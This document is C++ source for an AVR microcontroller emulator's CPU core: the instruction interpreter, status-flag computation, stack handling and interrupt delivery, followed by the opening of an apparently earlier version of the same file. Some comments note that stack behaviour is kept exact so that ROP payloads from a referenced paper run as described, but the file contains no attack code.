  const unsigned z = res == 0 ? 1u : 0u;
  const unsigned s = (sreg() & ~unsigned{kArithFlags}) | (c << kC) |
                     (z << kZ) | (n << kN) | (v << kV) | ((n ^ v) << kS) |
                     (h << kH);
  set_sreg(static_cast<std::uint8_t>(s));
}

void Cpu::flags_sub(std::uint8_t d, std::uint8_t r, std::uint8_t borrow_in,
                    std::uint8_t res, bool keep_z) {
  // Mirror of flags_add with the borrow-out vector (~d&r) | ((~d|r)&res);
  // again `res` encodes the borrow-in, so H and C fall out as bit extracts.
  (void)borrow_in;
  const unsigned nd = ~unsigned{d};
  const unsigned borrows = (nd & r) | ((nd | r) & res);
  const unsigned v = ((d & ~unsigned{r} & ~unsigned{res}) | (nd & r & res)) >> 7;
  const unsigned n = res >> 7;
  const unsigned c = (borrows >> 7) & 1;
  const unsigned h = (borrows >> 3) & 1;
  const std::uint8_t old = sreg();
  // SBC/SBCI/CPC only clear Z, never set it (multi-byte compare semantics):
  // with keep_z the old Z gates the new one.
  const unsigned zgate = keep_z ? (old >> kZ) & 1u : 1u;
  const unsigned z = res == 0 ? zgate : 0u;
  const unsigned s = (old & ~unsigned{kArithFlags}) | (c << kC) | (z << kZ) |
                     (n << kN) | (v << kV) | ((n ^ v) << kS) | (h << kH);
  set_sreg(static_cast<std::uint8_t>(s));
}

void Cpu::flags_logic(std::uint8_t res) {
  const unsigned n = res >> 7;
  const unsigned z = res == 0 ? 1u : 0u;
  const unsigned s = (sreg() & ~unsigned{kLogicFlags}) | (z << kZ) |
                     (n << kN) | (n << kS);  // S = N ^ V with V = 0
  set_sreg(static_cast<std::uint8_t>(s));
}

void Cpu::push_byte(std::uint8_t value) {
  // Stack traffic is deliberately not routed through load_mem/store_mem:
  // tracers observe it via on_sp_change / on_call / on_ret instead, keeping
  // on_load/on_store scoped to the program's explicit data accesses.
  const std::uint16_t sp_now = sp();
  data_.store(sp_now, value);
  set_sp(static_cast<std::uint16_t>(sp_now - 1));
}

std::uint8_t Cpu::pop_byte() {
  const std::uint16_t sp_now = static_cast<std::uint16_t>(sp() + 1);
  set_sp(sp_now);
  return data_.load(sp_now);
}

void Cpu::push_pc(std::uint32_t ret_words) {
  // Hardware pushes the LSB first, so ascending memory reads big-endian —
  // the byte order every ROP payload in the paper (Fig. 6) relies on.
  //
  // Fast path: when every pushed byte lands in plain RAM (at or above the
  // I/O region, below the data-space end) the writes cannot hit a device
  // handler, cannot wrap, and cannot alias SPL/SPH — so batching them is
  // exactly equivalent to the byte-at-a-time sequence. A stack pivoted
  // into the I/O region or off the end takes the general path, which
  // re-reads SP between bytes (a push that rewrites SPL redirects the
  // bytes that follow, and the ROP payloads depend on that).
  const std::uint16_t sp_now = sp();
  const unsigned n = push_bytes_;
  if (sp_now >= kExtIoEnd + (n - 1) && sp_now < data_size_) [[likely]] {
    ram_[sp_now] = static_cast<std::uint8_t>(ret_words & 0xFF);
    ram_[sp_now - 1] = static_cast<std::uint8_t>((ret_words >> 8) & 0xFF);
    if (n == 3) {
      ram_[sp_now - 2] = static_cast<std::uint8_t>((ret_words >> 16) & 0xFF);
    }
    set_sp(static_cast<std::uint16_t>(sp_now - n));
    return;
  }
  push_byte(static_cast<std::uint8_t>(ret_words & 0xFF));
  push_byte(static_cast<std::uint8_t>((ret_words >> 8) & 0xFF));
  if (n == 3) {
    push_byte(static_cast<std::uint8_t>((ret_words >> 16) & 0xFF));
  }
}

std::uint32_t Cpu::pop_pc() {
  // Returns the raw popped value; callers apply pc_mask_. Preserving the
  // unmasked bytes lets a wild return from a smashed stack be diagnosed
  // instead of silently wrapping into valid flash.
  //
  // Same fast path as push_pc: plain-RAM loads have no side effects, so
  // batching them is exact whenever all n bytes sit in [kExtIoEnd, end).
  const std::uint32_t sp_now = sp();
  const unsigned n = push_bytes_;
  if (sp_now + 1 >= kExtIoEnd && sp_now + n < data_size_) [[likely]] {
    std::uint32_t value = 0;
    for (unsigned i = 1; i <= n; ++i) value = (value << 8) | ram_[sp_now + i];
    set_sp(static_cast<std::uint16_t>(sp_now + n));
    return value;
  }
  std::uint32_t value = 0;
  if (n == 3) value = pop_byte();
  value = (value << 8) | pop_byte();
  value = (value << 8) | pop_byte();
  return value;
}

std::uint32_t Cpu::skip_target(std::uint32_t next_pc) const {
  // Skip over the next instruction: 1 or 2 words.
  const std::uint16_t w = flash_.word(next_pc);
  return (next_pc + (is_two_word(w) ? 2 : 1)) & pc_mask_;
}

void Cpu::fault_now(std::uint32_t pc_words, std::uint16_t opcode,
                    std::string reason) {
  state_ = CpuState::Faulted;
  fault_.pc_words = pc_words;
  fault_.opcode = opcode;
  fault_.reason = std::move(reason);
  fault_.cycle = cycles_;
  fault_.last_ret_raw_words = last_ret_raw_words_;
  fault_.last_ret_wrapped = last_ret_wrapped_;
}

template <bool kTraced>
std::uint8_t Cpu::load_mem(std::uint32_t addr) {
  const std::uint8_t value = data_.load(addr);
  if constexpr (kTraced) tracer_->on_load(*this, addr, value);
  return value;
}

template <bool kTraced>
void Cpu::store_mem(std::uint32_t addr, std::uint8_t value) {
  data_.store(addr, value);
  if constexpr (kTraced) tracer_->on_store(*this, addr, value);
}

// The interpreter body is instantiated twice: the kTraced=false build is
// byte-for-byte the old hook-free loop, the kTraced=true build weaves the
// Tracer callbacks in. step()/run() pick an instantiation with a single
// null-pointer branch, so disabling tracing costs nothing in the hot path.
template <bool kTraced>
void Cpu::step_impl(std::uint64_t deadline, bool single) {
  if (state_ != CpuState::Running) return;

  // The hot architectural counters live in locals for the whole loop: byte
  // stores through ram_ may alias any member (char-type aliasing), so
  // member counters would be reloaded and re-stored every instruction,
  // while loop locals stay in registers. The traced instantiation syncs
  // the members around every hook so tracers observe exactly the
  // per-instruction state the member-based loop exposed; cold exits
  // (fault, a throwing device handler) sync before leaving.
  std::uint32_t pc = pc_;
  std::uint64_t cycles = cycles_;
  std::uint64_t retired = retired_;
  try {
  do {
  if constexpr (kTraced) {
    pc_ = pc;
    cycles_ = cycles;
    retired_ = retired;
  }
  const std::uint32_t pc0 = pc;
  [[maybe_unused]] std::uint16_t sp0 = 0;
  if constexpr (kTraced) sp0 = sp();
  // Executed from a by-value copy: the interpreter's data-space byte stores
  // could alias a cache_ reference, forcing field reloads after every store.
  const Instr in = decoded(pc0);
  std::uint32_t next = (pc0 + in.size_words) & pc_mask_;
  std::uint32_t cyc = 1;

  switch (in.op) {
    case Op::Invalid:
      pc_ = pc;
      cycles_ = cycles;
      retired_ = retired;
      fault_now(pc0, flash_.word(pc0),
                "invalid opcode " + support::hex_value(flash_.word(pc0)));
      if constexpr (kTraced) tracer_->on_fault(*this, fault_);
      return;

    case Op::Nop:
    case Op::Sleep:
    case Op::Wdr:
    case Op::Spm:
      break;
    case Op::Break:
      state_ = CpuState::Stopped;
      break;

    // --- Two-register ALU ---------------------------------------------
    case Op::Add: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t res = static_cast<std::uint8_t>(d + r);
      set_reg(in.rd, res);
      flags_add(d, r, 0, res);
      break;
    }
    case Op::Adc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t carry = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d + r + carry);
      set_reg(in.rd, res);
      flags_add(d, r, carry, res);
      break;
    }
    case Op::Sub: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      set_reg(in.rd, res);
      flags_sub(d, r, 0, res, /*keep_z=*/false);
      break;
    }
    case Op::Sbc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t borrow = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r - borrow);
      set_reg(in.rd, res);
      flags_sub(d, r, borrow, res, /*keep_z=*/true);
      break;
    }
    case Op::And: {
      const std::uint8_t res = reg(in.rd) & reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Or: {
      const std::uint8_t res = reg(in.rd) | reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Eor: {
      const std::uint8_t res = reg(in.rd) ^ reg(in.rr);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Mov:
      set_reg(in.rd, reg(in.rr));
      break;
    case Op::Movw:
      set_reg(in.rd, reg(in.rr));
      set_reg(in.rd + 1, reg(in.rr + 1));
      break;
    case Op::Mul: {
      const std::uint16_t res =
          static_cast<std::uint16_t>(unsigned(reg(in.rd)) * reg(in.rr));
      set_reg(0, static_cast<std::uint8_t>(res & 0xFF));
      set_reg(1, static_cast<std::uint8_t>(res >> 8));
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~(fb(kC) | fb(kZ)));
      if ((res >> 15) & 1) s |= fb(kC);
      if (res == 0) s |= fb(kZ);
      set_sreg(s);
      cyc = 2;
      break;
    }
    case Op::Cp: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      flags_sub(d, r, 0, static_cast<std::uint8_t>(d - r), false);
      break;
    }
    case Op::Cpc: {
      const std::uint8_t d = reg(in.rd), r = reg(in.rr);
      const std::uint8_t borrow = flag(kC);
      flags_sub(d, r, borrow, static_cast<std::uint8_t>(d - r - borrow),
                /*keep_z=*/true);
      break;
    }
    case Op::Cpse: {
      if (reg(in.rd) == reg(in.rr)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    }

    // --- Immediate ALU -------------------------------------------------
    case Op::Ldi:
      set_reg(in.rd, static_cast<std::uint8_t>(in.k));
      break;
    case Op::Subi: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r);
      set_reg(in.rd, res);
      flags_sub(d, r, 0, res, false);
      break;
    }
    case Op::Sbci: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      const std::uint8_t borrow = flag(kC);
      const std::uint8_t res = static_cast<std::uint8_t>(d - r - borrow);
      set_reg(in.rd, res);
      flags_sub(d, r, borrow, res, /*keep_z=*/true);
      break;
    }
    case Op::Andi: {
      const std::uint8_t res = reg(in.rd) & static_cast<std::uint8_t>(in.k);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Ori: {
      const std::uint8_t res = reg(in.rd) | static_cast<std::uint8_t>(in.k);
      set_reg(in.rd, res);
      flags_logic(res);
      break;
    }
    case Op::Cpi: {
      const std::uint8_t d = reg(in.rd), r = static_cast<std::uint8_t>(in.k);
      flags_sub(d, r, 0, static_cast<std::uint8_t>(d - r), false);
      break;
    }

    // --- One-register ALU ----------------------------------------------
    case Op::Com: {
      const std::uint8_t res = static_cast<std::uint8_t>(~reg(in.rd));
      set_reg(in.rd, res);
      std::uint8_t s =
          sreg() & static_cast<std::uint8_t>(~(kLogicFlags | fb(kC)));
      s |= fb(kC);  // COM always sets carry
      if (bit7(res)) s |= fb(kN) | fb(kS);
      if (res == 0) s |= fb(kZ);
      set_sreg(s);
      break;
    }
    case Op::Neg: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>(0 - d);
      set_reg(in.rd, res);
      const bool n = bit7(res), v = res == 0x80;
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~kArithFlags);
      if ((bit3(res) | bit3(d)) != 0) s |= fb(kH);
      if (res != 0) s |= fb(kC);
      if (v) s |= fb(kV);
      if (n) s |= fb(kN);
      if (res == 0) s |= fb(kZ);
      if (n != v) s |= fb(kS);
      set_sreg(s);
      break;
    }
    case Op::Inc: {
      const std::uint8_t res = static_cast<std::uint8_t>(reg(in.rd) + 1);
      set_reg(in.rd, res);
      const bool n = bit7(res), v = res == 0x80;
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~kLogicFlags);
      if (v) s |= fb(kV);
      if (n) s |= fb(kN);
      if (res == 0) s |= fb(kZ);
      if (n != v) s |= fb(kS);
      set_sreg(s);
      break;
    }
    case Op::Dec: {
      const std::uint8_t res = static_cast<std::uint8_t>(reg(in.rd) - 1);
      set_reg(in.rd, res);
      const bool n = bit7(res), v = res == 0x7F;
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~kLogicFlags);
      if (v) s |= fb(kV);
      if (n) s |= fb(kN);
      if (res == 0) s |= fb(kZ);
      if (n != v) s |= fb(kS);
      set_sreg(s);
      break;
    }
    case Op::Swap: {
      const std::uint8_t d = reg(in.rd);
      set_reg(in.rd,
              static_cast<std::uint8_t>((d << 4) | (d >> 4)));
      break;
    }
    case Op::Asr: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>((d >> 1) | (d & 0x80));
      set_reg(in.rd, res);
      const bool c = (d & 1) != 0, n = bit7(res), v = n != c;
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~kShiftFlags);
      if (c) s |= fb(kC);
      if (n) s |= fb(kN);
      if (res == 0) s |= fb(kZ);
      if (v) s |= fb(kV);
      if (n != v) s |= fb(kS);
      set_sreg(s);
      break;
    }
    case Op::Lsr: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res = static_cast<std::uint8_t>(d >> 1);
      set_reg(in.rd, res);
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~kShiftFlags);
      // N = 0, so V = N ^ C = C and S = N ^ V = C.
      if (d & 1) s |= fb(kC) | fb(kV) | fb(kS);
      if (res == 0) s |= fb(kZ);
      set_sreg(s);
      break;
    }
    case Op::Ror: {
      const std::uint8_t d = reg(in.rd);
      const std::uint8_t res =
          static_cast<std::uint8_t>((d >> 1) | (flag(kC) ? 0x80 : 0));
      set_reg(in.rd, res);
      const bool c = (d & 1) != 0, n = bit7(res), v = n != c;
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~kShiftFlags);
      if (c) s |= fb(kC);
      if (n) s |= fb(kN);
      if (res == 0) s |= fb(kZ);
      if (v) s |= fb(kV);
      if (n != v) s |= fb(kS);
      set_sreg(s);
      break;
    }
    case Op::Adiw: {
      const std::uint16_t d = reg_pair(in.rd);
      const std::uint16_t res = static_cast<std::uint16_t>(d + in.k);
      set_reg_pair(in.rd, res);
      const bool rdh7 = (d >> 15) & 1, r15 = (res >> 15) & 1;
      const bool v = !rdh7 && r15;
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~kShiftFlags);
      if (v) s |= fb(kV);
      if (!r15 && rdh7) s |= fb(kC);
      if (r15) s |= fb(kN);
      if (res == 0) s |= fb(kZ);
      if (r15 != v) s |= fb(kS);
      set_sreg(s);
      cyc = 2;
      break;
    }
    case Op::Sbiw: {
      const std::uint16_t d = reg_pair(in.rd);
      const std::uint16_t res = static_cast<std::uint16_t>(d - in.k);
      set_reg_pair(in.rd, res);
      const bool rdh7 = (d >> 15) & 1, r15 = (res >> 15) & 1;
      const bool v = rdh7 && !r15;
      std::uint8_t s = sreg() & static_cast<std::uint8_t>(~kShiftFlags);
      if (v) s |= fb(kV);
      if (r15 && !rdh7) s |= fb(kC);
      if (r15) s |= fb(kN);
      if (res == 0) s |= fb(kZ);
      if (r15 != v) s |= fb(kS);
      set_sreg(s);
      cyc = 2;
      break;
    }

    // --- Control flow ---------------------------------------------------
    case Op::Rjmp:
      next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
      cyc = 2;
      break;
    case Op::Rcall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 4 : 3;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Jmp:
      next = static_cast<std::uint32_t>(in.target) & pc_mask_;
      cyc = 3;
      break;
    case Op::Call: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = static_cast<std::uint32_t>(in.target) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 5 : 4;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Ijmp:
      next = reg_pair(30) & pc_mask_;
      cyc = 2;
      break;
    case Op::Icall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = reg_pair(30) & pc_mask_;
      cyc = spec_.pc_push_bytes == 3 ? 4 : 3;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Eijmp:
      next = ((static_cast<std::uint32_t>(data_.raw(kAddrEind)) << 16) |
              reg_pair(30)) &
             pc_mask_;
      cyc = 2;
      break;
    case Op::Eicall: {
      const std::uint32_t ret = next;
      push_pc(ret);
      next = ((static_cast<std::uint32_t>(data_.raw(kAddrEind)) << 16) |
              reg_pair(30)) &
             pc_mask_;
      cyc = 4;
      if constexpr (kTraced) tracer_->on_call(*this, pc0, next, ret);
      break;
    }
    case Op::Ret:
    case Op::Reti: {
      const std::uint32_t raw = pop_pc();
      next = raw & pc_mask_;
      last_ret_raw_words_ = raw;
      last_ret_wrapped_ = (raw & ~pc_mask_) != 0;
      if (in.op == Op::Reti) set_flag(kI, true);
      cyc = spec_.pc_push_bytes == 3 ? 5 : 4;
      if constexpr (kTraced) {
        tracer_->on_ret(*this, pc0, next, raw, in.op == Op::Reti);
      }
      break;
    }
    case Op::Brbs:
      if (flag(static_cast<SregBit>(in.bit))) {
        next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
        cyc = 2;
      }
      break;
    case Op::Brbc:
      if (!flag(static_cast<SregBit>(in.bit))) {
        next = (pc0 + 1 + static_cast<std::uint32_t>(in.target)) & pc_mask_;
        cyc = 2;
      }
      break;
    case Op::Sbrc:
      if (!((reg(in.rd) >> in.bit) & 1)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbrs:
      if ((reg(in.rd) >> in.bit) & 1) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbic:
      if (!((load_mem<kTraced>(kIoBase + in.k) >> in.bit) & 1)) {
        next = skip_target(next);
        cyc = 2;
      }
      break;
    case Op::Sbis:
      if ((load_mem<kTraced>(kIoBase + in.k) >> in.bit) & 1) {
        next = skip_target(next);
        cyc = 2;
      }
      break;

    // --- Data transfer ---------------------------------------------------
    case Op::Lds:
      set_reg(in.rd, load_mem<kTraced>(in.k));
      cyc = 2;
      break;
    case Op::Sts:
      store_mem<kTraced>(in.k, reg(in.rd));
      cyc = 2;
      break;
    case Op::LdX:
      set_reg(in.rd, load_mem<kTraced>(reg_pair(26)));
      cyc = 2;
      break;
    case Op::LdXInc: {
      const std::uint16_t x = reg_pair(26);
      set_reg(in.rd, load_mem<kTraced>(x));
      set_reg_pair(26, static_cast<std::uint16_t>(x + 1));
      cyc = 2;
      break;
    }
    case Op::LdXDec: {
      const std::uint16_t x = static_cast<std::uint16_t>(reg_pair(26) - 1);
      set_reg_pair(26, x);
      set_reg(in.rd, load_mem<kTraced>(x));
      cyc = 2;
      break;
    }
    case Op::LdYInc: {
      const std::uint16_t y = reg_pair(28);
      set_reg(in.rd, load_mem<kTraced>(y));
      set_reg_pair(28, static_cast<std::uint16_t>(y + 1));
      cyc = 2;
      break;
    }
    case Op::LdYDec: {
      const std::uint16_t y = static_cast<std::uint16_t>(reg_pair(28) - 1);
      set_reg_pair(28, y);
      set_reg(in.rd, load_mem<kTraced>(y));
      cyc = 2;
      break;
    }
    case Op::LddY:
      set_reg(in.rd, load_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(28) + in.k)));
      cyc = 2;
      break;
    case Op::LdZInc: {
      const std::uint16_t z = reg_pair(30);
      set_reg(in.rd, load_mem<kTraced>(z));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 2;
      break;
    }
    case Op::LdZDec: {
      const std::uint16_t z = static_cast<std::uint16_t>(reg_pair(30) - 1);
      set_reg_pair(30, z);
      set_reg(in.rd, load_mem<kTraced>(z));
      cyc = 2;
      break;
    }
    case Op::LddZ:
      set_reg(in.rd, load_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(30) + in.k)));
      cyc = 2;
      break;
    case Op::StX:
      store_mem<kTraced>(reg_pair(26), reg(in.rd));
      cyc = 2;
      break;
    case Op::StXInc: {
      const std::uint16_t x = reg_pair(26);
      store_mem<kTraced>(x, reg(in.rd));
      set_reg_pair(26, static_cast<std::uint16_t>(x + 1));
      cyc = 2;
      break;
    }
    case Op::StXDec: {
      const std::uint16_t x = static_cast<std::uint16_t>(reg_pair(26) - 1);
      set_reg_pair(26, x);
      store_mem<kTraced>(x, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StYInc: {
      const std::uint16_t y = reg_pair(28);
      store_mem<kTraced>(y, reg(in.rd));
      set_reg_pair(28, static_cast<std::uint16_t>(y + 1));
      cyc = 2;
      break;
    }
    case Op::StYDec: {
      const std::uint16_t y = static_cast<std::uint16_t>(reg_pair(28) - 1);
      set_reg_pair(28, y);
      store_mem<kTraced>(y, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StdY:
      store_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(28) + in.k), reg(in.rd));
      cyc = 2;
      break;
    case Op::StZInc: {
      const std::uint16_t z = reg_pair(30);
      store_mem<kTraced>(z, reg(in.rd));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 2;
      break;
    }
    case Op::StZDec: {
      const std::uint16_t z = static_cast<std::uint16_t>(reg_pair(30) - 1);
      set_reg_pair(30, z);
      store_mem<kTraced>(z, reg(in.rd));
      cyc = 2;
      break;
    }
    case Op::StdZ:
      store_mem<kTraced>(static_cast<std::uint16_t>(reg_pair(30) + in.k), reg(in.rd));
      cyc = 2;
      break;
    case Op::LpmR0:
      set_reg(0, flash_.byte(reg_pair(30)));
      cyc = 3;
      break;
    case Op::Lpm:
      set_reg(in.rd, flash_.byte(reg_pair(30)));
      cyc = 3;
      break;
    case Op::LpmInc: {
      const std::uint16_t z = reg_pair(30);
      set_reg(in.rd, flash_.byte(z));
      set_reg_pair(30, static_cast<std::uint16_t>(z + 1));
      cyc = 3;
      break;
    }
    case Op::ElpmR0:
    case Op::Elpm:
    case Op::ElpmInc: {
      const std::uint32_t z =
          (static_cast<std::uint32_t>(data_.raw(kAddrRampz)) << 16) |
          reg_pair(30);
      const std::uint8_t dest = (in.op == Op::ElpmR0) ? 0 : in.rd;
      set_reg(dest, flash_.byte(z));
      if (in.op == Op::ElpmInc) {
        const std::uint32_t z1 = z + 1;
        set_reg_pair(30, static_cast<std::uint16_t>(z1 & 0xFFFF));
        data_.set_raw(kAddrRampz, static_cast<std::uint8_t>((z1 >> 16) & 0xFF));
      }
      cyc = 3;
      break;
    }
    case Op::In:
      set_reg(in.rd, load_mem<kTraced>(kIoBase + in.k));
      break;
    case Op::Out:
      store_mem<kTraced>(kIoBase + in.k, reg(in.rd));
      break;
    case Op::Push:
      push_byte(reg(in.rd));
      cyc = 2;
      break;
    case Op::Pop:
      set_reg(in.rd, pop_byte());
      cyc = 2;
      break;

    // --- Bit operations ---------------------------------------------------
    case Op::Sbi: {
      const std::uint32_t addr = kIoBase + in.k;
      store_mem<kTraced>(addr, static_cast<std::uint8_t>(load_mem<kTraced>(addr) |
                                                  (1u << in.bit)));
      cyc = 2;
      break;
    }
    case Op::Cbi: {
      const std::uint32_t addr = kIoBase + in.k;
      store_mem<kTraced>(addr, static_cast<std::uint8_t>(load_mem<kTraced>(addr) &
                                                  ~(1u << in.bit)));
      cyc = 2;
      break;
    }
    case Op::Bset:
      set_flag(static_cast<SregBit>(in.bit), true);
      break;
    case Op::Bclr:
      set_flag(static_cast<SregBit>(in.bit), false);
      break;
    case Op::Bst:
      set_flag(kT, (reg(in.rd) >> in.bit) & 1);
      break;
    case Op::Bld: {
      std::uint8_t d = reg(in.rd);
      if (flag(kT)) {
        d |= static_cast<std::uint8_t>(1u << in.bit);
      } else {
        d &= static_cast<std::uint8_t>(~(1u << in.bit));
      }
      set_reg(in.rd, d);
      break;
    }
  }

  if constexpr (kTraced) {
    // Fires before the PC advances so watchpoint hits report the pc of the
    // instruction that moved SP (the stk_move pivot's OUT, a push, ...).
    const std::uint16_t sp1 = sp();
    if (sp1 != sp0) tracer_->on_sp_change(*this, sp0, sp1);
  }

  pc = next & pc_mask_;
  cycles += cyc;
  ++retired;
  // Publish the post-retire time for clock-reading devices (one store),
  // then dispatch device ticks only when a cached deadline is crossed —
  // the per-instruction virtual broadcast is gone from the hot path.
  io_.set_now(cycles);
  if (cycles >= io_.next_deadline()) [[unlikely]] io_.tick(cycles);

  if constexpr (kTraced) {
    pc_ = pc;
    cycles_ = cycles;
    retired_ = retired;
    tracer_->on_retire(*this, pc0, in, cyc);
  }

  // Interrupt delivery between instructions (lowest vector slot wins).
  // Lines are only walked while the bus's interrupt hint is up — devices
  // raise it when a condition goes pending, and a poll that finds nothing
  // clears it, so quiescent stretches skip the type-erased take() calls.
  if (flag(kI) && io_.irq_hint() && !irq_lines_.empty()) {
    bool took = false;
    for (auto& [slot, take] : irq_lines_) {
      if (!take()) continue;
      took = true;
      const std::uint32_t from = pc;
      [[maybe_unused]] std::uint16_t sp_before = 0;
      if constexpr (kTraced) sp_before = sp();
      push_pc(from);
      set_flag(kI, false);
      pc = (static_cast<std::uint32_t>(slot) * 2) & pc_mask_;
      cycles += 5;
      ++interrupts_taken_;
      if constexpr (kTraced) {
        pc_ = pc;
        cycles_ = cycles;
        tracer_->on_sp_change(*this, sp_before, sp());
        tracer_->on_irq(*this, slot, from);
      }
      break;
    }
    // Keep the hint up after a dispatch: another line may still be pending
    // (it will be re-polled at the next instruction with I set).
    if (!took) io_.clear_irq_hint();
  }
  } while (!single && state_ == CpuState::Running && cycles < deadline);
  } catch (...) {
    pc_ = pc;
    cycles_ = cycles;
    retired_ = retired;
    throw;
  }
  pc_ = pc;
  cycles_ = cycles;
  retired_ = retired;
}

void Cpu::step() {
  sync_decode_cache();
  io_.raise_irq();
  if (tracer_ == nullptr) [[likely]] {
    step_impl<false>(0, /*single=*/true);
  } else {
    step_impl<true>(0, /*single=*/true);
  }
}

void Cpu::set_irq_line(std::uint8_t vector_slot, std::function<bool()> take) {
  irq_lines_.emplace_back(vector_slot, std::move(take));
  std::sort(irq_lines_.begin(), irq_lines_.end(),
            [](const auto& a, const auto& b) { return a.first < b.first; });
}

std::uint64_t Cpu::run(std::uint64_t cycle_budget) {
  sync_decode_cache();
  // Pending state may have been flipped from outside the simulation loop
  // (tests driving lines directly, UART feeds between runs): poll at least
  // once regardless of device hints.
  io_.raise_irq();
  const std::uint64_t start = cycles_;
  const std::uint64_t deadline = start + cycle_budget;
  // Tracer dispatch resolved once: the untraced instantiation is the
  // pre-observability interpreter, branch-free on the hot path. The loop
  // itself lives inside step_impl so the hot counters stay in registers.
  if (cycle_budget != 0) {
    if (tracer_ == nullptr) [[likely]] {
      step_impl<false>(deadline, /*single=*/false);
    } else {
      step_impl<true>(deadline, /*single=*/false);
    }
  }
  return cycles_ - start;
}

}  // namespace mavr::avr
