#include "avr/cpu.hpp"

#include <algorithm>
#include <bit>

#include "support/hexdump.hpp"

namespace mavr::avr {

namespace {
constexpr std::uint8_t bit7(std::uint8_t v) { return (v >> 7) & 1; }
constexpr std::uint8_t bit3(std::uint8_t v) { return (v >> 3) & 1; }
}  // namespace

Cpu::Cpu(const McuSpec& spec)
    : spec_(spec),
      flash_(spec),
      data_(spec, io_),
      eeprom_(spec),
      pc_mask_(spec.flash_words() - 1),
      cache_(spec.flash_words()),
      cache_valid_(spec.flash_words(), 0) {
  MAVR_CHECK(std::has_single_bit(spec.flash_words()),
             "flash word count must be a power of two for PC wrapping");
  reset();
}

void Cpu::reset() {
  data_.clear();
  pc_ = 0;
  set_sp(static_cast<std::uint16_t>(spec_.ramend()));
  state_ = CpuState::Running;
  fault_ = FaultInfo{};
  last_ret_raw_words_ = 0;
  last_ret_wrapped_ = false;
}

const Instr& Cpu::decoded(std::uint32_t word_addr) {
  if (cache_generation_ != flash_.generation()) {
    std::fill(cache_valid_.begin(), cache_valid_.end(), std::uint8_t{0});
    cache_generation_ = flash_.generation();
  }
  if (!cache_valid_[word_addr]) {
    cache_[word_addr] = decode(flash_.word(word_addr),
                               flash_.word((word_addr + 1) & pc_mask_));
    cache_valid_[word_addr] = 1;
  }
  return cache_[word_addr];
}

void Cpu::set_flag(SregBit bit, bool value) {
  std::uint8_t s = sreg();
  if (value) {
    s |= static_cast<std::uint8_t>(1u << bit);
  } else {
    s &= static_cast<std::uint8_t>(~(1u << bit));
  }
  set_sreg(s);
}

void Cpu::flags_add(std::uint8_t d, std::uint8_t r, std::uint8_t carry_in,
                    std::uint8_t res) {
  const std::uint8_t d7 = bit7(d), r7 = bit7(r), s7 = bit7(res);
  const unsigned wide = unsigned(d) + unsigned(r) + carry_in;
  const bool v = (d7 && r7 && !s7) || (!d7 && !r7 && s7);
  const bool n = s7;
  set_flag(kH, ((d & 0xF) + (r & 0xF) + carry_in) > 0xF);
  set_flag(kC, wide > 0xFF);
  set_flag(kV, v);
  set_flag(kN, n);
  set_flag(kZ, res == 0);
  set_flag(kS, n != v);
}

void Cpu::flags_sub(std::uint8_t d, std::uint8_t r, std::uint8_t borrow_in,
                    std::uint8_t res, bool keep_z) {
  const std::uint8_t d7 = bit7(d), r7 = bit7(r), s7 = bit7(res);
  const bool v = (d7 && !r7 && !s7) || (!d7 && r7 && s7);
  const bool n = s7;
  set_flag(kH, (d & 0xF) < ((r & 0xF) + borrow_in));
  set_flag(kC, unsigned(d) < (unsigned(r) + borrow_in));
  set_flag(kV, v);
  set_flag(kN, n);
  // SBC/SBCI/CPC only clear Z, never set it (multi-byte compare semantics).
